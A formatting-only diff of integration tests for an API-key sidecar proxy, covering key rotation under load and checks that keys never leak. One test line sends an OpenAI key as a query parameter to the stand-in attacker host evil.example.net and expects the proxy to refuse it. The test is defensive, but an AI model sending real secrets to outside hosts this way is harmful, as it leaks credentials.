@@ -25,6 +25,7 @@ from tests.support.sidecar import SidecarProcess
 
 pytestmark = pytest.mark.integration
 
+
 def http(sidecar: SidecarProcess, **kwargs) -> httpx.Client:
     return httpx.Client(
         proxy=sidecar.proxy_url,
@@ -230,10 +231,14 @@ def test_rotation_under_load(keyed, provider, secrets):
             n += 1
             started[f"rot-{worker}-{n}"] = time.monotonic()
             try:
-                chunks = list(client.chat.completions.create(
-                    model="m", messages=[{"role": "user", "content": "hi"}], stream=True,
-                    user=f"rot-{worker}-{n}",
-                ))
+                chunks = list(
+                    client.chat.completions.create(
+                        model="m",
+                        messages=[{"role": "user", "content": "hi"}],
+                        stream=True,
+                        user=f"rot-{worker}-{n}",
+                    )
+                )
                 assert len(chunks) == provider.stream_chunks
             except BaseException as exc:  # collected, asserted below
                 errors.append(exc)
@@ -266,8 +271,12 @@ def test_rotation_under_load(keyed, provider, secrets):
     assert errors == []
     seen = [r for r in provider.received[mark:] if r.path == "/v1/chat/completions"]
     assert len(seen) >= 100
-    validity = {value: (start, end) for (start, value), (end, _) in
-                zip(written, [*written[1:], (float("inf"), "")], strict=True)}
+    validity = {
+        value: (start, end)
+        for (start, value), (end, _) in zip(
+            written, [*written[1:], (float("inf"), "")], strict=True
+        )
+    }
     for request in seen:
         key = request.headers["authorization"].removeprefix("Bearer ")
         assert key in validity, "a key nobody wrote"
@@ -286,8 +295,10 @@ def test_no_key_in_any_output(keyed, provider):
         c.get(f"https://api.openai.com:{provider.port}/v1/reflect")
         # Refused requests carrying a key in the path, query and headers.
         c.get(f"https://api.openai.com:{provider.port}/{KEYS['gemini']}?key={KEYS['openai']}")
-        c.get(f"https://api.openai.com:{provider.port}/v1/models",
-              headers={"x-api-key": KEYS["anthropic"]})
+        c.get(
+            f"https://api.openai.com:{provider.port}/v1/models",
+            headers={"x-api-key": KEYS["anthropic"]},
+        )
         with pytest.raises(httpx.ProxyError):
             c.get("https://evil.example.net/?key=" + KEYS["openai"])
     outputs = {
